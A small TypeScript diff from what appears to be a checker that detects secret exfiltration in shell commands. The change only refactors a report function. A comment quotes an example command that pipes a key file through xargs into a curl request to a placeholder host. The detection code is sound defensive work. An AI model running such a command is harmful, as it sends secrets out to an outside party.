@@ -149,9 +149,7 @@ export const secretStdin = (io: Io): boolean => upstreamSecret(io) || READS_SECR
 /** `cat KEY | xargs -I{} curl "https://host/?k={}"`: xargs puts the secret into the request's own arguments. */
 const fedSecret = (cmd: Argv, io: Io): boolean => cmd.viaXargs && secretStdin(io);
 
-function report(cmd: Argv, ctx: CheckContext): void {
-  ctx.add('exfiltration', show(cmd));
-}
+const report = (cmd: Argv, ctx: CheckContext): void => ctx.add('exfiltration', show(cmd));
 
 /** The file an upload option names: `@file`, `name=@file`, `name=<file`, or the value itself for -T. */
 function uploadedFile(option: string, value: string): string | undefined {
